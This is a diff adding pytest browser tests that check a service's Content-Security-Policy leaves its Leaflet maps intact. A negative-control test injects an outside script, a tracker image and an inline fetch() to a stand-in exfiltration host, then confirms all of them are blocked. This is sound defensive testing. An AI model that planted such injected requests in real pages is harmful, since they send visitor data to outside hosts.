@@ -174,3 +174,40 @@ def test_missing_chromium_fails_loudly(monkeypatch: pytest.MonkeyPatch) -> None:
     with pytest.raises(pytest.fail.Exception, match="chromium is missing") as err:
         browser.chromium()
     assert "scripts/system_packages.sh" in str(err.value)
+
+
+def _with_policy(page: Path, tmp: Path, extra: str = "") -> Path:
+    """A copy of ``page`` under the service's Content-Security-Policy (as a meta element)."""
+    from api._headers import META_POLICY
+
+    html = page.read_text(encoding="utf-8")
+    meta = f'<meta http-equiv="Content-Security-Policy" content="{META_POLICY}">'
+    head = html.index("<head>") + len("<head>")
+    out = tmp / f"csp-{page.name}"
+    out.write_text(html[:head] + meta + html[head:].replace("</body>", extra + "</body>"))
+    return out
+
+
+@pytest.mark.parametrize(("name", "min_paths"), [("constraints", 1000), ("national", 4)])
+def test_maps_draw_under_the_services_security_policy(
+    pages: dict[str, Path], tmp_path: Path, name: str, min_paths: int
+) -> None:
+    """The policy the API sends with every page (api._headers) leaves the maps whole."""
+    run = open_page(_with_policy(pages[name], tmp_path), screenshot=tmp_path / f"{name}.png")
+    _check_clean(run)  # no "Refused to ..." in the console
+    assert run.dom.count("leaflet-interactive") >= min_paths
+
+
+def test_the_security_policy_blocks_what_an_injected_script_would_do(
+    pages: dict[str, Path], tmp_path: Path
+) -> None:
+    """Negative control: under the policy a page can neither load nor send to another host."""
+    extra = (
+        '<script src="https://cdn.example.org/x.js"></script>'
+        '<img src="https://tracker.example.org/p.gif">'
+        "<script>fetch('https://exfil.example.org/?d=1').catch(function(){});</script>"
+    )
+    run = open_page(_with_policy(pages["route"], tmp_path, extra))
+    assert run.requests == [], run.requests  # blocked before any request was made
+    refused = [line for line in run.console if "Content Security Policy" in line]
+    assert len(refused) >= 3, run.console
